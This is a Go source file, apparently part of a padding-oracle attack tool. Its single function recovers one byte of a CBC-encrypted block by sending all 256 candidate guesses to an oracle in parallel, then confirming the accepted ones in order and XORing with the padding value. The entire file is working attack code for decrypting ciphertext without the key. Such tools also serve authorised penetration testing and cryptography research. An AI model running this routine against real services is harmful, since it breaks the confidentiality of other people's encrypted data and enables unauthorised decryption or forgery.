package recovery

import (
	"context"
	"sort"

	"github.com/nullmass/padoracle/pkg/oracle"
)

type guessResult struct {
	guess byte
	valid bool
	err   error
}

// recoverByteRacing fans the 256 guesses for one position out over the
// worker pool. It trades extra queries for wall-clock time: all guesses
// are submitted up front instead of stopping at the first hit.
// Candidates are confirmed sequentially afterwards, lowest guess first,
// so the outcome is deterministic regardless of completion order.
func (c *Chain) recoverByteRacing(ctx context.Context, work, target []byte, pos int, pad byte) (byte, bool, error) {
	room := c.pool.NewRoom(256)

	for g := 0; g < 256; g++ {
		cand := make([]byte, oracle.BlockSize)
		copy(cand, work)
		cand[pos] = byte(g)
		g := byte(g)
		room.Submit(func() interface{} {
			ok, err := c.query(ctx, cand, target)
			return guessResult{guess: g, valid: ok, err: err}
		})
	}

	var hits []byte
	var firstErr error
	for _, r := range room.Collect() {
		gr := r.(guessResult)
		if gr.err != nil {
			if firstErr == nil {
				firstErr = gr.err
			}
			continue
		}
		if gr.valid {
			hits = append(hits, gr.guess)
		}
	}
	if firstErr != nil {
		return 0, false, firstErr
	}

	sort.Slice(hits, func(i, j int) bool { return hits[i] < hits[j] })

	probe := make([]byte, oracle.BlockSize)
	copy(probe, work)
	for _, g := range hits {
		probe[pos] = g
		confirmed, err := c.confirm(ctx, probe, target, pos)
		if err != nil {
			return 0, false, err
		}
		if confirmed {
			return g ^ pad, true, nil
		}
	}
	return 0, false, nil
}
